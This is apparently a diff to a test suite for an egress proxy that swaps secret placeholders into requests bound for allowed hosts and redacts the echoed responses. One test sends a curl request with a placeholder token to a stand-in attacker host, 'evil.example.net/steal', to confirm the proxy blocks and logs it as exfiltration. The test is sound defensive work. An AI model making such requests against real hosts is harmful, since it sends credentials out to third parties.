@@ -31,6 +31,8 @@ const run = promisify(execFile);
 
 /** A value shaped like a GitHub token, so DLP and redaction have something real to find. */
 const GITHUB_VALUE = 'ghp_' + 'R3alV4lue'.repeat(4);
+/** A second token, stored without a header and opted in to query and body swaps (`swapIn`). */
+const ANYWHERE_VALUE = 'ghp_' + 'Anywh3re0'.repeat(4);
 
 async function curl(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
   try {
@@ -54,6 +56,7 @@ describe('network door', () => {
   let eg: TestEgress;
   let ph: string;
   let otherPh: string;
+  let anyPh: string;
   let curlProxy: string;
   const certDir = tempDir();
   const githubCert = makeCert(certDir, ['api.github.com'], 'github');
@@ -70,6 +73,7 @@ store: { sqlite: ./b.db }
 secrets:
   github: { hosts: [api.github.com] }
   dollars: { hosts: [api.github.com] }
+  anywhere: { hosts: [api.github.com], swapIn: [header, query, body] }
 egress:
   staticHosts: { api.github.com: [127.0.0.1], evil.example.net: [127.0.0.1], plain.example.net: [127.0.0.1] }
   maxBodyBytes: 65536
@@ -79,7 +83,7 @@ egress:
 agents:
   demo:
     keys: [env:EGRESS_KEY]
-    secrets: [github, dollars]
+    secrets: [github, dollars, anywhere]
     network:
       - "api.github.com:${github.port}"
       - { host: evil.example.net, ports: [${evil.port}], methods: [GET, POST] }
@@ -95,6 +99,8 @@ agents:
     );
     await eg.door.vault.add('github', new Secret(GITHUB_VALUE), { hosts: ['api.github.com'], header: 'Authorization', format: 'token {}' });
     ph = await eg.door.vault.placeholder('github', 'demo');
+    await eg.door.vault.add('anywhere', new Secret(ANYWHERE_VALUE), { hosts: ['api.github.com'] });
+    anyPh = await eg.door.vault.placeholder('anywhere', 'demo');
     otherPh = await eg.door.vault.placeholder('github', 'other');
     curlProxy = `http://demo:${EGRESS_KEY}@${eg.proxyUrl.host}`;
   });
@@ -106,11 +112,11 @@ agents:
 
   test('curl -x: a placeholder in a header reaches api.github.com as the real value, and the echo comes back redacted', async () => {
     const n = github.received.length;
-    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-H', `X-Token: Bearer ${ph}`, `https://api.github.com:${github.port}/echo`]);
+    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-H', `X-Token: Bearer ${anyPh}`, `https://api.github.com:${github.port}/echo`]);
     assert.equal(r.code, 0, r.stderr);
     const got = github.received[n];
-    assert.equal(got?.headers['x-token'], `Bearer ${GITHUB_VALUE}`);
-    assert.ok(!r.stdout.includes(GITHUB_VALUE), 'the echoed value is redacted');
+    assert.equal(got?.headers['x-token'], `Bearer ${ANYWHERE_VALUE}`);
+    assert.ok(!r.stdout.includes(ANYWHERE_VALUE), 'the echoed value is redacted');
     assert.ok(r.stdout.includes('[REDACTED:vault-secret]'));
   });
 
@@ -135,28 +141,28 @@ agents:
     const agent = new ProxyAgent({ uri: eg.proxyUrl.href, token: proxyAuth(), requestTls: { ca: eg.caPem } });
     try {
       const n = github.received.length;
-      const text = `{"token":"${ph}"}`;
-      const cut = text.indexOf(ph) + 11;
+      const text = `{"token":"${anyPh}"}`;
+      const cut = text.indexOf(anyPh) + 11;
       // Three chunks, the placeholder split across the first two: Transfer-Encoding: chunked.
       const body = Readable.from([Buffer.from(text.slice(0, cut)), Buffer.from(text.slice(cut, cut + 20)), Buffer.from(text.slice(cut + 20))]);
-      const res = await undiciFetch(`https://api.github.com:${github.port}/echo?key=${ph}`, { method: 'POST', body, duplex: 'half', dispatcher: agent } as never);
+      const res = await undiciFetch(`https://api.github.com:${github.port}/echo?key=${anyPh}`, { method: 'POST', body, duplex: 'half', dispatcher: agent } as never);
       assert.equal(res.status, 200);
       const echoed = await res.text();
       const got = github.received[n];
       assert.equal(got?.headers['transfer-encoding'], undefined, 'forwarded with a length after inspection');
-      assert.equal(got?.body.toString('utf8'), `{"token":"${GITHUB_VALUE}"}`);
-      assert.equal(got?.url, `/echo?key=${GITHUB_VALUE}`);
-      assert.ok(!echoed.includes(GITHUB_VALUE));
+      assert.equal(got?.body.toString('utf8'), `{"token":"${ANYWHERE_VALUE}"}`);
+      assert.equal(got?.url, `/echo?key=${ANYWHERE_VALUE}`);
+      assert.ok(!echoed.includes(ANYWHERE_VALUE));
     } finally {
       await agent.close();
     }
   });
 
   test('a gzip-encoded echo is decoded and redacted too', async () => {
-    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '--compressed', '-H', `X-Token: ${ph}`, `https://api.github.com:${github.port}/gzip-echo`]);
+    const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '--compressed', '-H', `X-Token: ${anyPh}`, `https://api.github.com:${github.port}/gzip-echo`]);
     assert.equal(r.code, 0, r.stderr);
     assert.ok(r.stdout.includes('[REDACTED:vault-secret]'));
-    assert.ok(!r.stdout.includes(GITHUB_VALUE));
+    assert.ok(!r.stdout.includes(ANYWHERE_VALUE));
   });
 
   test('the same placeholder headed for another host is blocked (403, reason code), alerted and audited as exfiltration', async () => {
@@ -165,19 +171,19 @@ agents:
     const r = await curl(['-x', curlProxy, '--cacert', eg.caFile, '-i', '-H', `Authorization: Bearer ${ph}`, `https://evil.example.net:${evil.port}/steal`]);
     assert.equal(r.code, 0, r.stderr);
     assert.match(r.stdout, /^HTTP\/1\.1 403/m);
-    assert.match(r.stdout, /bastion-reason: placeholder\.foreign_host/i);
+    assert.match(r.stdout, /bastion-reason: release\.foreign_host/i);
     assert.equal(evil.received.length, before, 'nothing reached the foreign host');
-    assert.deepEqual(eg.alerts.slice(alerts), [{ kind: 'exfiltration', agent: 'demo', host: 'evil.example.net', reason: 'placeholder.foreign_host', secrets: ['github'] }]);
-    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'placeholder.foreign_host');
+    assert.deepEqual(eg.alerts.slice(alerts), [{ kind: 'exfiltration', agent: 'demo', host: 'evil.example.net', reason: 'release.foreign_host', secrets: ['github'] }]);
+    const rec = (await records(eg)).findLast((x) => x.decision.reason === 'release.foreign_host');
     assert.equal(rec?.door, 'network');
     assert.equal(rec?.detail?.alert, 'exfiltration');
     assert.deepEqual(rec?.detail?.secrets, ['github']);
   });
 
   test('plain HTTP: a placeholder is never swapped into cleartext, even toward its own name', async () => {
-    const r = await curl(['-x', curlProxy, '-i', '-H', `X-Token: ${ph}`, `http://plain.example.net:${plain.port}/`]);
+    const r = await curl(['-x', curlProxy, '-i', '-H', `X-Token: ${anyPh}`, `http://plain.example.net:${plain.port}/`]);
     assert.match(r.stdout, /^HTTP\/1\.1 403/m);
-    assert.match(r.stdout, /bastion-reason: placeholder\.foreign_host/i);
+    assert.match(r.stdout, /bastion-reason: release\.foreign_host/i);
   });
 
   test('unknown placeholders block the same way: forged, another agent’s, and revoked', async () => {
